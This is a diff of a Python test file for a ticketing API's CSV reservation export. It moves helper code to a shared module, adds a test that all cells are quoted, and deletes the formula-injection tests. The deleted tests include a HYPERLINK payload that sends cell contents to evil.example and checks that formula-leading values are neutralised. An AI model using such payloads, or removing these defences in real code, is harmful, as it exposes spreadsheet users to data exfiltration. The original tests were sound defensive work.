@@ -1,14 +1,13 @@
-"""The export for spreadsheets: all rows, page by page, and nothing in it that is a formula."""
+"""The export for spreadsheets: all rows, page by page."""
 
-import csv
-import io
 from typing import Any, cast
 
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 
-from tests.api.conftest import Clock, CreateEventOf
+from tests.api.conftest import CLOCK_START, Clock, CreateEventOf
+from tests.api.exports import EVENT, EXPORT, HEADINGS, exported, rows_of
 from tests.api.keyed import Keyed
 from tests.api.pages import listed
 from tests.api.partner import PARTNER_ID, PartnerClient, problem
@@ -16,48 +15,6 @@ from ticketboss.api.reservation_lists import CSV_PAGE_ROWS
 from ticketboss.domain.commands import Reserve, ReserveMany
 from ticketboss.engine.ids import new_id
 from ticketboss.services import Services
-
-EVENT = "/events/node-meetup-2025"
-EXPORT = f"{EVENT}/reservations.csv"
-HEADINGS = [
-    "reservationId",
-    "partnerId",
-    "reference",
-    "seats",
-    "status",
-    "createdAt",
-    "expiresAt",
-    "version",
-    "createdVersion",
-]
-FORMULAS = [
-    '=HYPERLINK("https://evil.example?"&A1,"Paid")',
-    "=1+1",
-    "+1",
-    "-1",
-    "-1+2",
-    "@SUM(A1:A9)",
-    "=",
-    "=\"a\",'b'",
-]
-HARMLESS = ["PO 4711", "1=1", "a-b", 'say "hello"', "a,b", ",", '"', "'=1", "Ä→😀", "a;b", " =1"]
-
-
-def rows_of(text: str) -> list[dict[str, str]]:
-    """The rows of an export by their headings, after a look at its form (RFC 4180)."""
-    assert text.endswith("\r\n")
-    assert text.count("\n") == text.count("\r") == text.count("\r\n")
-    lines = list(csv.reader(io.StringIO(text, newline=""), strict=True))
-    assert lines[0] == HEADINGS
-    assert {len(line) for line in lines} == {len(HEADINGS)}
-    return [dict(zip(HEADINGS, line, strict=True)) for line in lines[1:]]
-
-
-def exported(client: PartnerClient, url: str = EXPORT) -> list[dict[str, str]]:
-    """All rows of an event's export."""
-    response = client.get(url)
-    assert response.status_code == 200, response.text
-    return rows_of(response.get_data(as_text=True))
 
 
 def as_cells(reservation: dict[str, Any]) -> dict[str, str]:
@@ -79,7 +36,14 @@ def test_export_is_a_download_named_after_the_event(client: PartnerClient) -> No
     assert response.content_type == "text/csv"
     assert response.headers["Content-Disposition"] == 'attachment; filename="node-meetup-2025.csv"'
     assert response.headers["Cache-Control"] == "no-store"
-    assert response.text == ",".join(HEADINGS) + "\r\n"
+    assert response.text == ",".join(f'"{heading}"' for heading in HEADINGS) + "\r\n"
+
+
+def test_all_cells_are_quoted(client: PartnerClient, clock: Clock) -> None:
+    client.reserve()
+
+    _, row, _ = client.get(EXPORT).text.split("\r\n")
+    assert row.endswith('","abc-corp","","1","confirmed","' + CLOCK_START + '","","1","1"')
 
 
 def test_export_has_what_the_list_has(client: PartnerClient, clock: Clock) -> None:
@@ -94,40 +58,6 @@ def test_export_has_what_the_list_has(client: PartnerClient, clock: Clock) -> No
     assert found == [as_cells(row) for row in listed(client, f"{EVENT}/reservations")]
     assert [row["status"] for row in found] == ["confirmed", "expired", "cancelled", "held"]
     assert found[3]["expiresAt"] == "2027-01-15T08:01:10.000Z"
-
-
-@pytest.mark.parametrize("reference", FORMULAS)
-def test_reference_that_is_a_formula_is_made_harmless(
-    client: PartnerClient, reference: str
-) -> None:
-    client.reserve(reference=reference)
-
-    assert [row["reference"] for row in exported(client)] == [f"'{reference}"]
-
-
-@pytest.mark.parametrize("reference", HARMLESS)
-def test_reference_that_is_none_is_exported_as_it_is(client: PartnerClient, reference: str) -> None:
-    client.reserve(reference=reference)
-
-    assert [row["reference"] for row in exported(client)] == [reference]
-
-
-@pytest.mark.parametrize("partner_id", ["-corp", "-1", "--", "-2:3.4"])
-def test_partner_that_is_a_formula_is_made_harmless(client: PartnerClient, partner_id: str) -> None:
-    client.reserve(1, partner_id, reference="-1")
-
-    (row,) = exported(client)
-    assert (row["partnerId"], row["reference"]) == (f"'{partner_id}", "'-1")
-
-
-def test_no_cell_of_any_column_begins_like_a_formula(client: PartnerClient) -> None:
-    for partner_id, reference in zip(["-a", "a", ":", ".", "_"], FORMULAS, strict=False):
-        client.reserve(1, partner_id, reference=reference)
-        client.hold(1, partner_id=partner_id, reference=reference)
-
-    cells = [cell for row in exported(client) for cell in row.values() if cell]
-
-    assert {cell[0] for cell in cells if not cell[0].isalnum()} == {"'", ":", ".", "_"}
 
 
 @pytest.mark.parametrize(
